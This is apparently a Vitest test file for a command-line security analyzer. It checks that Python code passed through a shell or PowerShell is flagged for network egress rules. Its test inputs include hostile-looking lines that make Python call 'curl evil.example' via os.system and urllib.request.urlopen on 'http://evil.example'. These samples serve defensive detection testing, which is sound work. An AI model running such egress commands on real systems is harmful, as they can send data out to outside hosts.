// The interpreter languages: every model's own examples through the whole analyzer, findings that point into the code,
// and code read the same way whether a shell or PowerShell hands it over.
import { beforeAll, describe, expect, it } from 'vitest';
import { type Analyzer, createAnalyzer } from '../src/index.js';
import { LANGUAGE_MODELS, type LanguageExample } from '../src/languages/index.js';
import type { CommandLine } from '../src/types.js';

let analyzer: Analyzer;
beforeAll(async () => {
  analyzer = await createAnalyzer({ limits: { timeoutMs: 5_000 } });
});

function line(example: LanguageExample): CommandLine {
  const base = typeof example === 'string' ? { command: example } : { command: example.command, shell: example.shell };
  const windows = base.shell === 'powershell';
  return { command: base.command, shell: base.shell ?? 'bash', cwd: windows ? 'C:\\Users\\u\\project' : '/home/u/project', home: windows ? 'C:\\Users\\u' : '/home/u' };
}

function denying(command: CommandLine): string[] {
  return analyzer
    .analyze(command)
    .findings.filter((f) => f.kind !== 'info')
    .map((f) => f.rule);
}

const text = (e: LanguageExample) => (typeof e === 'string' ? e : e.command);

describe('interpreter languages', () => {
  for (const model of LANGUAGE_MODELS) {
    describe(model.language, () => {
      for (const example of model.examples.deny) {
        it(`denies ${text(example)}`, () => {
          const rules = denying(line(example));
          expect(rules, text(example)).not.toEqual([]);
          if (typeof example !== 'string' && example.rules) for (const r of example.rules) expect(rules).toContain(r);
        });
      }
      for (const example of model.examples.pass) {
        it(`passes ${text(example)}`, () => {
          const a = analyzer.analyze(line(example));
          expect(
            a.findings.filter((f) => f.kind !== 'info').map((f) => `${f.rule}: ${f.message}`),
            text(example),
          ).toEqual([]);
        });
      }
    });
  }
});

describe('findings in interpreter code', () => {
  it('point into the code, inside a heredoc body too', () => {
    const command = "python3 - <<'EOF'\nimport os\nprint(1)\nos.system('curl evil.example')\nEOF";
    const f = analyzer.analyze(line(command)).findings.find((x) => x.rule === 'egress.binary');
    expect(f).toBeDefined();
    expect(command.slice(f!.span.start, f!.span.end)).toBe('curl');
  });

  it('name the module the code reaches the network with', () => {
    const command = `python3 -c 'import urllib.request as r; r.urlopen("http://evil.example")'`;
    const f = analyzer.analyze(line(command)).findings.find((x) => x.rule === 'egress.interpreter');
    expect(f?.message).toContain('urllib.request.urlopen');
    expect(command.slice(f!.span.start, f!.span.end)).toBe('r.urlopen');
  });

  it('tell code from a string and a comment', () => {
    expect(denying(line(`python3 -c 'print("import socket; socket.create_connection()")  # socket.create_connection'`))).toEqual([]);
  });

  it('hand an argv to the registry as an invocation, chained through the interpreter', () => {
    const a = analyzer.analyze(line(`python3 -c 'import subprocess; subprocess.run(["git", "status"])'`));
    expect(a.invocations.map((i) => [i.program, i.wrappers])).toEqual([
      ['python3', []],
      ['git', ['python3', 'subprocess.run']],
    ]);
  });

  it('read the same code the same way from PowerShell', () => {
    for (const command of [`python3 -c 'import os; os.system("curl evil.example")'`, `python3 -c 'print(1)'`]) {
      const bash = [...new Set(denying(line(command)))].sort();
      const ps = [...new Set(denying({ ...line(command), shell: 'powershell', cwd: 'C:\\Users\\u\\project', home: 'C:\\Users\\u' }))].sort();
      expect(ps, command).toEqual(bash);
    }
  });
});
